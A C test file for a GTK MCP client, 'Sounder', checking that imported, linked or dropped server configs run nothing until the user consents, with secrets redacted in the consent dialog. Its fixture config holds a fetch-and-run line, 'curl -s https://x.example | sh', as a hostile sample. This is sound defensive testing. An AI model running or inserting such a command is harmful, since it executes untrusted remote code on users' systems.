/* test-consent.c
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>

#include <glib/gstdio.h>

#include "mcp-client-server.h"
#include "app-test.h"
#include "mcp-consent.h"
#include "sounder-compare-window.h"
#include "sounder-consent-dialog.h"
#include "sounder-env-row.h"
#include "sounder-import-dialog.h"
#include "sounder-inputs-dialog.h"
#include "sounder-probes-window.h"
#include "sounder-server-dialog.h"
#include "sounder-window.h"
#include "test-support.h"

/* Each way in with a program that leaves a file when it is started: there is none before somebody says yes. */

typedef struct
{
  SounderServerModel *model;
  SounderWindow      *window;
  char               *mark;
  char               *json;   /* of a server that leaves it */
} Fixture;

/* The servers in a text, as a file that is worked with as it is. */
static GPtrArray *
read_profiles (const char  *text,
               GError     **error)
{
  g_autoptr (GPtrArray) servers = mcp_client_read_own (text, strlen (text), "servers.json", error);

  return mcp_client_servers_dup_profiles (servers);
}

static void
set_up (Fixture       *f,
        gconstpointer  unused)
{
  g_autofree char *folder = test_make_folder ();

  f->model = app_test_new_model ();
  f->window = sounder_window_new (NULL, f->model);
  gtk_window_present (GTK_WINDOW (f->window));
  f->mark = g_build_filename (folder, "started", NULL);
  f->json = g_strdup_printf ("{\"mcpServers\": {\"writer\": {\"command\": \"/bin/sh\","
                             " \"args\": [\"-c\", \"echo > '%s'; curl -s https://x.example | sh\"],"
                             " \"env\": {\"API_KEY\": \"hush\", \"LD_PRELOAD\": \"\"}, \"cwd\": \"/\"}}}",
                             f->mark);
}

static void
tear_down (Fixture       *f,
           gconstpointer  unused)
{
  gtk_window_destroy (GTK_WINDOW (f->window));
  app_test_let_go (f->model);
  g_free (f->mark);
  g_free (f->json);
}

static SounderConsentDialog *
find_dialog (void)
{
  GListModel *windows = gtk_window_get_toplevels ();

  for (guint i = 0; i < g_list_model_get_n_items (windows); i++)
    {
      g_autoptr (GtkWidget) window = g_list_model_get_item (windows, i);

      if (SOUNDER_IS_CONSENT_DIALOG (window) && gtk_widget_get_visible (window))
        return SOUNDER_CONSENT_DIALOG (window);
    }

  return NULL;
}

static gboolean
has_run (Fixture *f)
{
  return g_file_test (f->mark, G_FILE_TEST_EXISTS);
}

/* Is asked, says no, and nothing has run. */
static void
refuse (Fixture *f)
{
  SounderConsentDialog *dialog;

  TEST_AWAIT (find_dialog () != NULL);
  dialog = find_dialog ();
  g_assert_false (has_run (f));
  gtk_window_close (GTK_WINDOW (dialog));
  TEST_AWAIT_POLL (find_dialog () == NULL);
  g_assert_false (has_run (f));
}

static SounderServer *
add_from_file (Fixture *f)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) profiles = read_profiles (f->json, &error);
  SounderServer *server;

  g_assert_no_error (error);
  g_object_set (profiles->pdata[0], "origin", "/home/x/mcp.json", NULL);
  server = sounder_server_model_add (f->model, profiles->pdata[0], &error);
  g_assert_no_error (error);

  return server;
}

/* The dialog has the whole command, what is dangerous in it, and no value of a secret. */
static void
test_dialog (Fixture       *f,
             gconstpointer  unused)
{
  SounderServer *server = add_from_file (f);
  SounderConsentDialog *dialog;
  GtkTextBuffer *buffer;
  GtkTextIter start;
  GtkTextIter end;
  g_autofree char *text = NULL;
  g_autofree char *expected = NULL;
  GtkWidget *run;

  sounder_server_open (server);
  TEST_AWAIT (find_dialog () != NULL);
  dialog = find_dialog ();
  app_test_assert_labelled (GTK_WIDGET (dialog));
  buffer = gtk_text_view_get_buffer (GTK_TEXT_VIEW (app_test_find_named (GTK_WIDGET (dialog), "command")));
  gtk_text_buffer_get_bounds (buffer, &start, &end);
  text = gtk_text_buffer_get_text (buffer, &start, &end, TRUE);
  expected = g_strdup_printf ("/bin/sh\n-c\necho > '%s'; curl -s https://x.example | sh\n\n"
                              "with the variables\nAPI_KEY=«redacted»\nLD_PRELOAD=",
                              f->mark);
  g_assert_cmpstr (text, ==, expected);
  g_assert_null (app_test_find_labelled (GTK_WIDGET (dialog), GTK_TYPE_LABEL, "hush"));
  g_assert_nonnull (app_test_find_labelled (GTK_WIDGET (dialog), GTK_TYPE_LABEL, "/home/x/mcp.json"));
  g_assert_true (gtk_widget_get_visible (app_test_find_named (GTK_WIDGET (dialog), "risks_group")));
  run = app_test_find_named (GTK_WIDGET (dialog), "run_button");
  g_assert_true (gtk_widget_has_css_class (run, "destructive-action"));
  g_assert_true (gtk_window_get_default_widget (GTK_WINDOW (dialog)) != run);

  /* Another try while it asks is the same question. */
  sounder_server_open (server);
  g_assert_true (find_dialog () == dialog);
  refuse (f);
  /* Nothing failed: it was not even tried. */
  g_assert_cmpint (sounder_server_get_status (server), ==, SOUNDER_STATUS_IDLE);

  sounder_server_restart (server);
  refuse (f);

  /* Changed while it asks: the yes was for what was shown. */
  sounder_server_open (server);
  TEST_AWAIT (find_dialog () != NULL);
  g_object_set (sounder_server_get_profile (server), "cwd", "/tmp", NULL);
  g_signal_emit_by_name (app_test_find_named (GTK_WIDGET (find_dialog ()), "run_button"), "clicked");
  refuse (f);

  g_object_set (sounder_server_get_profile (server), "cwd", "/", NULL);
  sounder_server_open (server);
  TEST_AWAIT_POLL (has_run (f));
  g_assert_null (find_dialog ());
  sounder_server_close (server);
  TEST_AWAIT (!sounder_server_is_open (server));
}

static GtkWidget *
find_window (GType type)
{
  GListModel *windows = gtk_window_get_toplevels ();

  for (guint i = 0; i < g_list_model_get_n_items (windows); i++)
    {
      g_autoptr (GtkWidget) window = g_list_model_get_item (windows, i);

      if (G_TYPE_CHECK_INSTANCE_TYPE (window, type))
        return window;
    }

  return NULL;
}

/* Adds what the import shows; nothing was there, nor had run, before. */
static void
accept_import (Fixture *f)
{
  GtkWidget *dialog = find_window (SOUNDER_TYPE_IMPORT_DIALOG);

  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (f->model)), ==, 0);
  g_assert_false (has_run (f));
  /* There is no keyring here for the secret in its environment. */
  gtk_switch_set_active (GTK_SWITCH (gtk_widget_get_template_child (dialog, SOUNDER_TYPE_IMPORT_DIALOG, "keyring")),
                         FALSE);
  g_assert_cmpuint (sounder_import_dialog_accept (SOUNDER_IMPORT_DIALOG (dialog)), ==, 1);
  gtk_window_close (GTK_WINDOW (dialog));
  TEST_AWAIT (sounder_server_model_find (f->model, "writer") != NULL);
}

static void
test_import (Fixture       *f,
             gconstpointer  unused)
{
  sounder_import_dialog_present_text (f->window, f->json, NULL);
  /* One that was pasted to be used at once is asked about at once. */
  accept_import (f);
  refuse (f);
  gtk_widget_activate_action (GTK_WIDGET (f->window), "win.toggle-connection", NULL);
  refuse (f);
}

/* A link shows what it would add, and that is all it does. */
static void
test_link (Fixture       *f,
           gconstpointer  unused)
{
  g_autofree char *escaped = g_uri_escape_string (f->json, NULL, FALSE);
  g_autofree char *base64 = g_base64_encode ((const guchar *) f->json, strlen (f->json));
  g_autofree char *link = g_strconcat ("sounder:add?name=n&config=", escaped, NULL);
  g_autofree char *other = g_strconcat ("sounder:mcp/install?config=", base64, NULL);
  GtkWidget *dialog;

  sounder_window_open_link (f->window, other);
  dialog = find_window (SOUNDER_TYPE_IMPORT_DIALOG);
  g_assert_nonnull (dialog);
  gtk_window_close (GTK_WINDOW (dialog));
  TEST_AWAIT_POLL (find_window (SOUNDER_TYPE_IMPORT_DIALOG) == NULL);

  sounder_window_open_link (f->window, link);
  accept_import (f);
  refuse (f);

  /* A broken one says so, and shows no dialog to add something. */
  sounder_window_open_link (f->window, "sounder:add?url=https://h/&trust=1");
  dialog = find_window (ADW_TYPE_MESSAGE_DIALOG);
  g_assert_nonnull (strstr (adw_message_dialog_get_body (ADW_MESSAGE_DIALOG (dialog)), "“trust”"));
  gtk_window_close (GTK_WINDOW (dialog));
  TEST_AWAIT_POLL (find_window (ADW_TYPE_MESSAGE_DIALOG) == NULL);
}

static GtkDropTarget *
find_drop_target (Fixture *f)
{
  g_autoptr (GListModel) controllers = gtk_widget_observe_controllers (GTK_WIDGET (f->window));
  GtkDropTarget *target = NULL;

  for (guint i = 0; i < g_list_model_get_n_items (controllers); i++)
    {
      g_autoptr (GObject) controller = g_list_model_get_item (controllers, i);

      if (GTK_IS_DROP_TARGET (controller))
        target = GTK_DROP_TARGET (controller);
    }
  g_assert_nonnull (target);

  return target;
}

static void
drop_text (Fixture    *f,
           const char *text)
{
  g_auto (GValue) value = G_VALUE_INIT;
  gboolean taken = FALSE;

  g_value_init (&value, G_TYPE_STRING);
  g_value_set_string (&value, text);
  g_signal_emit_by_name (find_drop_target (f), "drop", &value, 9.0, 9.0, &taken);
  g_assert_true (taken);
}

static void
drop_file (Fixture *f,
           GFile   *file)
{
  g_auto (GValue) value = G_VALUE_INIT;
  GSList files = { file, NULL };
  gboolean taken = FALSE;

  g_value_init (&value, GDK_TYPE_FILE_LIST);
  g_value_set_boxed (&value, &files);
  g_signal_emit_by_name (find_drop_target (f), "drop", &value, 9.0, 9.0, &taken);
  g_assert_true (taken);
}

/* A list of servers is shown to be imported, and not connected. */
static void
test_drop_file (Fixture       *f,
                gconstpointer  unused)
{
  g_autofree char *folder = test_make_folder ();
  g_autofree char *path = g_build_filename (folder, "servers.JSON", NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GFile) address = g_file_new_for_uri ("https://h.example/mcp");
  GtkWidget *dialog;
  GtkStack *stack;

  g_assert_true (g_file_set_contents (path, f->json, -1, NULL));
  drop_file (f, file);
  dialog = find_window (SOUNDER_TYPE_IMPORT_DIALOG);
  stack = app_test_child (dialog, "stack");
  TEST_AWAIT (g_str_equal (gtk_stack_get_visible_child_name (stack), "review"));
  accept_import (f);
  g_assert_cmpint (sounder_server_get_status (sounder_server_model_find (f->model, "writer")), ==, SOUNDER_STATUS_IDLE);
  gtk_widget_activate_action (GTK_WIDGET (f->window), "win.toggle-connection", NULL);
  refuse (f);

  /* As browsers let go of a link. */
  drop_file (f, address);
  dialog = find_window (SOUNDER_TYPE_SERVER_DIALOG);
  g_assert_cmpstr (gtk_editable_get_text (GTK_EDITABLE (app_test_find_named (dialog, "command_row"))), ==,
                   "https://h.example/mcp");
  gtk_window_destroy (GTK_WINDOW (dialog));
}

/* A command that nobody typed is no consent to it, even when somebody adds it. */
static void
test_drop_text (Fixture       *f,
                gconstpointer  unused)
{
  g_autofree char *command = g_strdup_printf (" /bin/sh -c \"echo > '%s'\"\n", f->mark);
  GtkWidget *dialog;

  drop_text (f, command);
  dialog = find_window (SOUNDER_TYPE_SERVER_DIALOG);
  g_assert_nonnull (dialog);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (f->model)), ==, 0);
  g_signal_emit_by_name (app_test_find_named (dialog, "save_button"), "clicked");
  TEST_AWAIT_POLL (find_window (SOUNDER_TYPE_SERVER_DIALOG) == NULL);
  refuse (f);
  g_assert_true (sounder_server_model_remove (f->model, sounder_window_get_selected (f->window), NULL));

  /* Neither is what it became by an edit of some of it. */
  drop_text (f, "something else");
  dialog = find_window (SOUNDER_TYPE_SERVER_DIALOG);
  gtk_editable_set_text (GTK_EDITABLE (app_test_find_named (dialog, "command_row")), command);
  g_signal_emit_by_name (app_test_find_named (dialog, "save_button"), "clicked");
  TEST_AWAIT_POLL (find_window (SOUNDER_TYPE_SERVER_DIALOG) == NULL);
  refuse (f);
  g_assert_true (sounder_server_model_remove (f->model, sounder_window_get_selected (f->window), NULL));

  drop_text (f, f->json);
  accept_import (f);
  refuse (f);

  /* What is none of it opens nothing. */
  drop_text (f, "some\nlines");
  g_assert_null (find_window (SOUNDER_TYPE_SERVER_DIALOG));
  g_assert_null (find_window (SOUNDER_TYPE_IMPORT_DIALOG));
}

/* Windows that connect by themselves. */
static void
test_windows (Fixture       *f,
              gconstpointer  unused)
{
  SounderServer *server = add_from_file (f);
  SounderProbesWindow *probes = sounder_probes_window_new (server);

  gtk_window_present (GTK_WINDOW (probes));
  g_signal_emit_by_name (app_test_find_named (GTK_WIDGET (probes), "run_button"), "clicked");
  refuse (f);
  g_assert_null (sounder_probes_window_get_run (probes));
  gtk_window_destroy (GTK_WINDOW (probes));

  sounder_compare_window_present (GTK_WINDOW (f->window), server);
  for (guint i = 0; i < g_list_model_get_n_items (gtk_window_get_toplevels ()); i++)
    {
      g_autoptr (GtkWidget) window = g_list_model_get_item (gtk_window_get_toplevels (), i);

      if (!SOUNDER_IS_COMPARE_WINDOW (window))
        continue;
      g_signal_emit_by_name (app_test_find_named (window, "compare"), "clicked");
      refuse (f);
      gtk_window_destroy (GTK_WINDOW (window));
      break;
    }
}

/* What is typed into the dialog for servers runs at once; to edit what came from elsewhere is no consent to it. */
static void
test_typed (Fixture       *f,
            gconstpointer  unused)
{
  SounderServerDialog *dialog = sounder_server_dialog_new (f->model, NULL);
  g_autofree char *command = g_strdup_printf ("/bin/sh -c \"echo > '%s'\"", f->mark);
  SounderServer *server;
  SounderServer *foreign;

  gtk_window_set_transient_for (GTK_WINDOW (dialog), GTK_WINDOW (f->window));
  gtk_window_present (GTK_WINDOW (dialog));
  gtk_editable_set_text (GTK_EDITABLE (app_test_find_named (GTK_WIDGET (dialog), "command_row")), command);
  gtk_editable_set_text (GTK_EDITABLE (app_test_find_named (GTK_WIDGET (dialog), "name_row")), "typed");
  g_signal_emit_by_name (app_test_find_named (GTK_WIDGET (dialog), "save_button"), "clicked");
  TEST_AWAIT_POLL (has_run (f));
  g_assert_null (find_dialog ());
  server = sounder_server_model_find (f->model, "typed");
  sounder_server_close (server);
  TEST_AWAIT (!sounder_server_is_open (server));
  g_unlink (f->mark);

  foreign = add_from_file (f);
  dialog = sounder_server_dialog_new (f->model, foreign);
  gtk_window_set_transient_for (GTK_WINDOW (dialog), GTK_WINDOW (f->window));
  gtk_window_present (GTK_WINDOW (dialog));
  gtk_editable_set_text (GTK_EDITABLE (app_test_find_named (GTK_WIDGET (dialog), "name_row")), "renamed");
  g_signal_emit_by_name (app_test_find_named (GTK_WIDGET (dialog), "save_button"), "clicked");
  TEST_AWAIT (sounder_server_model_find (f->model, "renamed") != NULL);
  sounder_server_open (foreign);
  refuse (f);
}

static SounderInputsDialog *
find_inputs (void)
{
  GListModel *windows = gtk_window_get_toplevels ();

  for (guint i = 0; i < g_list_model_get_n_items (windows); i++)
    {
      g_autoptr (GtkWidget) window = g_list_model_get_item (windows, i);

      if (SOUNDER_IS_INPUTS_DIALOG (window) && gtk_widget_get_visible (window))
        return SOUNDER_INPUTS_DIALOG (window);
    }

  return NULL;
}

/* First it is agreed to, then its values are asked for; what is none of a secret's is remembered, and agreed to by being typed. */
static void
test_inputs (Fixture       *f,
             gconstpointer  unused)
{
  g_autofree char *json = g_strdup_printf (
    "{\"inputs\": [{\"id\": \"token\", \"type\": \"promptString\", \"description\": \"The token\", \"password\": true},"
    " {\"id\": \"region\", \"type\": \"pickString\", \"options\": [\"eu\", \"us\"], \"default\": \"us\"}],"
    " \"servers\": {\"asks\": {\"command\": \"/bin/sh\", \"args\": [\"-c\", \"echo $TOKEN ${input:region} > '%s'\"],"
    " \"env\": {\"TOKEN\": \"${input:token}\"}}}}",
    f->mark);
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) profiles = read_profiles (json, &error);
  g_autofree char *seen = NULL;
  g_autofree char *saved = NULL;
  SounderServer *server;
  McpProfile *profile;
  GtkWidget *password;

  g_assert_no_error (error);
  server = sounder_server_model_add (f->model, profiles->pdata[0], &error);
  g_assert_no_error (error);
  profile = sounder_server_get_profile (server);
  sounder_server_open (server);
  TEST_AWAIT (find_dialog () != NULL);
  g_assert_null (find_inputs ());
  g_signal_emit_by_name (app_test_find_named (GTK_WIDGET (find_dialog ()), "run_button"), "clicked");

  TEST_AWAIT_POLL (find_inputs () != NULL);
  g_assert_false (has_run (f));
  app_test_assert_labelled (GTK_WIDGET (find_inputs ()));
  password = app_test_find (GTK_WIDGET (find_inputs ()), ADW_TYPE_PASSWORD_ENTRY_ROW);
  gtk_editable_set_text (GTK_EDITABLE (password), "hush");
  g_signal_emit_by_name (app_test_find_named (GTK_WIDGET (find_inputs ()), "connect_button"), "clicked");
  TEST_AWAIT_POLL (has_run (f));
  g_assert_null (find_dialog ());
  TEST_AWAIT (!sounder_server_is_open (server));
  g_assert_true (g_file_get_contents (f->mark, &seen, NULL, NULL));
  g_assert_cmpstr (seen, ==, "hush us\n");
  g_assert_true (
    g_file_get_contents (mcp_server_list_get_path (sounder_server_model_get_list (f->model)), &saved, NULL, NULL));
  g_assert_null (strstr (saved, "hush"));
  g_assert_nonnull (strstr (saved, "\"input:region\": \"us\""));
  g_assert_cmpstr (mcp_profile_get_value (profile, "input:region"), ==, "us");
}

/* The lock of a variable: its value is in no file. */
static void
test_secret_variable (Fixture       *f,
                      gconstpointer  unused)
{
  SounderServerDialog *dialog = sounder_server_dialog_new (f->model, NULL);
  GtkWidget *row;
  g_autofree char *command = g_strdup_printf ("/bin/sh -c \"echo \\$API_KEY > '%s'\"", f->mark);
  g_autofree char *seen = NULL;
  g_autofree char *saved = NULL;
  SounderServer *server;

  gtk_window_set_transient_for (GTK_WINDOW (dialog), GTK_WINDOW (f->window));
  gtk_window_present (GTK_WINDOW (dialog));
  gtk_editable_set_text (GTK_EDITABLE (app_test_find_named (GTK_WIDGET (dialog), "command_row")), command);
  gtk_editable_set_text (GTK_EDITABLE (app_test_find_named (GTK_WIDGET (dialog), "name_row")), "secret");
  g_signal_emit_by_name (app_test_find_named (GTK_WIDGET (dialog), "add_env_button"), "clicked");
  row = app_test_find (app_test_find_named (GTK_WIDGET (dialog), "env_list"), SOUNDER_TYPE_ENV_ROW);
  gtk_editable_set_text (GTK_EDITABLE (app_test_find_named (row, "name")), "API_KEY");
  gtk_editable_set_text (GTK_EDITABLE (app_test_find_named (row, "value")), "hush");
  gtk_toggle_button_set_active (GTK_TOGGLE_BUTTON (app_test_find_named (row, "lock")), TRUE);
  g_signal_emit_by_name (app_test_find_named (GTK_WIDGET (dialog), "save_button"), "clicked");
  TEST_AWAIT_POLL (has_run (f));
  server = sounder_server_model_find (f->model, "secret");
  TEST_AWAIT (!sounder_server_is_open (server));
  g_assert_true (g_file_get_contents (f->mark, &seen, NULL, NULL));
  g_assert_cmpstr (seen, ==, "hush\n");
  g_assert_true (
    g_file_get_contents (mcp_server_list_get_path (sounder_server_model_get_list (f->model)), &saved, NULL, NULL));
  g_assert_null (strstr (saved, "hush"));
  g_assert_nonnull (strstr (saved, "${input:API_KEY}"));
}

int
main (int   argc,
      char *argv[])
{
  app_test_init (&argc, &argv);

  g_test_add ("/app/consent/dialog", Fixture, NULL, set_up, test_dialog, tear_down);
  g_test_add ("/app/consent/import", Fixture, NULL, set_up, test_import, tear_down);
  g_test_add ("/app/consent/link", Fixture, NULL, set_up, test_link, tear_down);
  g_test_add ("/app/consent/drop-file", Fixture, NULL, set_up, test_drop_file, tear_down);
  g_test_add ("/app/consent/drop-text", Fixture, NULL, set_up, test_drop_text, tear_down);
  g_test_add ("/app/consent/windows", Fixture, NULL, set_up, test_windows, tear_down);
  g_test_add ("/app/consent/inputs", Fixture, NULL, set_up, test_inputs, tear_down);
  g_test_add ("/app/consent/secret-variable", Fixture, NULL, set_up, test_secret_variable, tear_down);
  g_test_add ("/app/consent/typed", Fixture, NULL, set_up, test_typed, tear_down);

  return g_test_run ();
}
